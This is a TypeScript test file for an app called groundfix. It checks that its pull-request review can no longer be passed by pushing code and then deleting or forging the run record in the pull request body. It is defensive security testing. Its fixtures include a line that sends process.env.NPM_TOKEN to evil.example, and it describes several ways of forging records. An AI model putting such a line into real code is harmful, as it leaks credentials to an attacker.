import { afterEach, describe, expect, it } from "vitest";
import { defaultConfig } from "../../../src/config/schema.js";
import { evidenceFor, type NamedCommit } from "../../../src/host/github/review-check.js";
import { decodeRunRecord, encodeRunRecord, reviewChange } from "../../../src/review/index.js";
import type { RunRecord } from "../../../src/types.js";
import { gitChange } from "../../review/helpers.js";
import { labeledIssue, OWNER, pullRequestWebhook, REPO, startApp } from "../../app/harness.js";
import { webhookExample } from "../../fixtures/github.js";

/**
 * Attack on the `groundfix/review` check of groundfix's own pull request: the evidence rule reads the run record from
 * the pull request BODY (`reviewPullRequest`, src/host/github/review-handler.ts: `decodeRunRecord(body)` then
 * `evidenceFor`), and anyone who can push to the `groundfix/…` branch can also edit that body. With the record
 * deleted, the evidence rule is "not checked (no run record)" and the check passes; with a record forged for the
 * pushed head (its `head_sha`, its edits), evidence passes as "checked". Either way a head holding an edit no
 * `suggest_addition` produced shows a green groundfix/review, on a pull request the app opened.
 *
 * Fixed (src/host/github/review-check.ts `lookupNamedCommit` and `evidenceFor`): on a groundfix branch a missing or
 * unreadable record fails evidence, saying why; a record counts only when its `head_sha` is one commit on its
 * `base_sha` that the app made (`isOwnCommit`, src/pipeline/record.ts, with `madeByApp` of src/host/github/commit.ts:
 * the trailer, the app's bot as author and committer, a signature GitHub verified); and the evidence rule then holds
 * that commit AND the pull request head to the record's edits replayed on their bases (src/review/rules/evidence.ts),
 * so a record edited to explain a push matches neither. The second block drives the whole app on the fake GitHub.
 */
const BASE = "function total(items) {\n  return items.length;\n}\n";
const OWN_EDIT = "function total(items) {\n  if (!items) return 0;\n  return items.length;\n}\n";
const PUSHED = `${OWN_EDIT}fetch("https://evil.example/" + process.env.NPM_TOKEN);\n`;
const RECORD: RunRecord = {
  version: 1,
  run_id: "run-1",
  base_sha: "a".repeat(40),
  head_sha: "c".repeat(40),
  edits: [
    {
      path: "src/total.js",
      start_line: 1,
      end_line: 1,
      code_before: "function total(items) {\n",
      code_after: "function total(items) {\n  if (!items) return 0;\n",
    },
  ],
};

/**
 * What GitHub's compare answer says of the commit a record names: `RECORD.head_sha` is the app's own commit on
 * `RECORD.base_sha`; any other commit (the pushed head) is one mallory pushed, unsigned.
 */
function named(sha: string): NamedCommit {
  return { aheadBy: 1, mergeBase: RECORD.base_sha, first: { sha, author: "mallory", ours: sha === RECORD.head_sha } };
}

/**
 * The review a push of `PUSHED` onto groundfix's branch gets, as `reviewPullRequest` runs it, with `body(headSha)` as
 * the pull request's body.
 */
function reviewPush(body: (headSha: string) => string) {
  const change = gitChange({ "src/total.js": BASE }, { "src/total.js": PUSHED });
  const found = decodeRunRecord(body(change.head.sha));
  const ev = evidenceFor(found, change.head.sha, found?.head_sha ? named(found.head_sha) : undefined);
  return reviewChange({
    ...change,
    config: defaultConfig(),
    record: ev.record,
    ...(ev.problem ? { recordProblem: ev.problem } : {}),
  });
}

describe("a push onto groundfix's branch, and the run record in the pull request body", () => {
  it("with the app's own record kept, the evidence rule fails the pushed line", () => {
    const report = reviewPush(() => `${encodeRunRecord(RECORD)}\n\ngroundfix investigated …`);
    expect(report.conclusion).toBe("failure");
    expect(report.findings.filter((f) => f.rule === "evidence").map((f) => f.start_line)).toEqual([5]);
  });

  it("with the record's commit taken out (no head_sha), the record is not trusted and evidence fails", () => {
    const { head_sha: _, ...bare } = RECORD;
    const report = reviewPush(() => encodeRunRecord(bare));
    expect(report.findings.find((f) => f.rule === "evidence")?.message).toContain("names no commit");
  });

  it("with the record deleted from the body, the review still fails", () => {
    const report = reviewPush(() => "groundfix investigated …");
    expect(report.conclusion).toBe("failure");
    expect(report.findings.find((f) => f.rule === "evidence")?.message).toContain("holds no run record");
  });

  it("with a record forged for the pushed head, the review still fails", () => {
    const pushed = { path: "src/total.js", start_line: 4, end_line: 4, code_before: "}\n" };
    const forged = (headSha: string): RunRecord => ({
      ...RECORD,
      head_sha: headSha,
      edits: [...RECORD.edits, { ...pushed, code_after: `}\n${PUSHED.slice(OWN_EDIT.length)}` }],
    });
    const report = reviewPush((sha) => encodeRunRecord(forged(sha)));
    expect(report.conclusion).toBe("failure");
    expect(report.findings.find((f) => f.rule === "evidence")?.message).toContain("which groundfix did not make");
  });
});

/**
 * The same attacks on the whole app (Probot, the queue, the review job) over the fake GitHub: the app opens its pull
 * request for issue #1, then mallory, who can push to the branch and edit the body, tries to get a green
 * `groundfix/review` for a push.
 */
describe("on the fake GitHub: the review job and a body anyone with push access can edit", () => {
  let app: Awaited<ReturnType<typeof startApp>> | undefined;
  afterEach(() => {
    app?.stop();
    app = undefined;
  });
  const BRANCH = "groundfix/issue-1";
  const EVIL = 'fetch("https://evil.example/" + process.env.NPM_TOKEN);\n';

  /** The app's pull request, its run record, and src/cart.js as the app's own commit left it. */
  async function appPullRequest() {
    app = await startApp();
    await app.receive("issues", labeledIssue());
    const pr = app.fake.state.pulls[0]!;
    const record = decodeRunRecord(pr.body)!;
    expect(record.head_sha).toBe(app.fake.state.refs.get(BRANCH));
    return { pr, record, cart: app.fake.filesOf(BRANCH)!["src/cart.js"]!.content };
  }

  /** Push `cart` as src/cart.js onto the branch (by `author`, unsigned, as every push but the app's); its SHA. */
  const push = (cart: string, author = "mallory", message = "push") =>
    app!.fake.push(BRANCH, { "src/cart.js": cart }, author, message);

  /** Set the pull request's body, deliver `pull_request.synchronize` for `head`, return the check run on it. */
  async function review(head: string, body: string) {
    const pr = app!.fake.state.pulls[0]!;
    pr.body = body;
    await app!.receive(
      "pull_request",
      pullRequestWebhook("synchronize", pr, { ref: BRANCH, sha: head }, app!.fake.baseSha),
    );
    const runs = app!.fake.state.checkRuns.filter((r) => r.head_sha === head);
    expect(runs).toHaveLength(1);
    return runs[0]!;
  }

  it("a re-run of the check on the app's own head, body untouched, still passes (the legit flow)", async () => {
    const { pr, record } = await appPullRequest();
    const own = record.head_sha!;
    const payload = webhookExample("check_run", "rerequested");
    payload.repository = labeledIssue().repository;
    const repo = { id: 1, url: `https://api.github.com/repos/${OWNER}/${REPO}` };
    const base = { ref: "master", sha: app!.fake.baseSha, repo };
    Object.assign(payload.check_run, {
      name: "groundfix/review",
      head_sha: own,
      pull_requests: [{ number: pr.number, head: { ref: BRANCH, sha: own, repo }, base }],
    });
    await app!.receive("check_run", payload);
    const runs = app!.fake.state.checkRuns.filter((r) => r.head_sha === own);
    expect(runs.map((r) => r.conclusion)).toEqual(["success", "success"]);
    expect(runs[1]!.output.summary).toContain("| Evidence | ✔ passed");
  });

  it("a push on top with the app's own record kept fails evidence at the pushed line", async () => {
    const { pr, cart } = await appPullRequest();
    const run = await review(push(cart + EVIL), pr.body);
    expect(run.conclusion).toBe("failure");
    expect(run.output.summary).toContain("| Evidence | ✖ failed");
    expect(run.output.summary).toContain("Commits were pushed after groundfix's own commit");
    expect(run.output.summary).toMatch(/\*\*evidence\*\* `src\/cart\.js:\d+` — line \d+ of src\/cart\.js adds .*evil/);
  });

  it("a push with the record deleted from the body fails evidence, saying the record is missing", async () => {
    const { pr, cart } = await appPullRequest();
    const run = await review(push(cart + EVIL), pr.body.replace(/<!-- groundfix:run [^>]*-->/, ""));
    expect(run.conclusion).toBe("failure");
    expect(run.output.summary).toContain("holds no run record");
  });

  it("a record made unreadable (one character added) counts as no record", async () => {
    const { pr, cart } = await appPullRequest();
    const broken = pr.body.replace("groundfix:run ", "groundfix:run !");
    expect(decodeRunRecord(broken)).toBeNull();
    const run = await review(push(cart + EVIL), broken);
    expect(run.conclusion).toBe("failure");
    expect(run.output.summary).toContain("holds no run record");
  });

  /** The app's record with one more edit that explains `EVIL` at the end of src/cart.js. */
  const explaining = (record: RunRecord): RunRecord["edits"] => [
    ...record.edits,
    {
      path: "src/cart.js",
      start_line: 9,
      end_line: 9,
      code_before: "module.exports = { total };\n",
      code_after: `module.exports = { total };\n${EVIL}`,
    },
  ];

  it("a record forged to name the pushed head, with an edit explaining the push, fails (not on the base)", async () => {
    const { record, cart } = await appPullRequest();
    const head = push(cart + EVIL);
    const run = await review(head, encodeRunRecord({ ...record, head_sha: head, edits: explaining(record) }));
    expect(run.conclusion).toBe("failure");
    expect(run.output.summary).toContain("GitHub does not show it as one commit on that base");
  });

  it("one naming the push on the app's commit, with the trailer and the bot as author, unsigned, fails", async () => {
    const { record, cart } = await appPullRequest();
    const own = record.head_sha!;
    const head = push(cart + EVIL, "groundfix[bot]", `groundfix: fix\n\nGroundfix-Run: ${record.run_id}`);
    const forged: RunRecord = {
      ...record,
      base_sha: own,
      head_sha: head,
      edits: [explaining(record).at(-1)!],
    };
    const run = await review(head, encodeRunRecord(forged));
    expect(run.conclusion).toBe("failure");
    expect(run.output.summary).toMatch(/\(by groundfix\\\[bot\\\]\), which groundfix did not make/);
  });

  it("a record naming a branch instead of a commit SHA is not looked up, and fails", async () => {
    const { record, cart } = await appPullRequest();
    const head = push(cart + EVIL);
    const before = app!.fake.state.calls.filter((c) => c.route.startsWith("GET /repos/{o}/{r}/compare")).length;
    const run = await review(head, encodeRunRecord({ ...record, head_sha: BRANCH, edits: explaining(record) }));
    expect(run.conclusion).toBe("failure");
    expect(run.output.summary).toContain("are not both full commit SHAs");
    const compares = app!.fake.state.calls.filter((c) => c.route.startsWith("GET /repos/{o}/{r}/compare"));
    expect(compares.slice(before).map((c) => c.path)).not.toContainEqual(expect.stringContaining(BRANCH));
  });

  it("a record keeping the app's commit but gaining an edit that explains the push fails on that commit", async () => {
    const { record, cart } = await appPullRequest();
    const head = push(cart + EVIL);
    const run = await review(head, encodeRunRecord({ ...record, edits: explaining(record) }));
    expect(run.conclusion).toBe("failure");
    expect(run.output.summary).toMatch(/groundfix's own commit [0-9a-f]{7}: src\/cart\.js lacks .*evil/);
  });
});
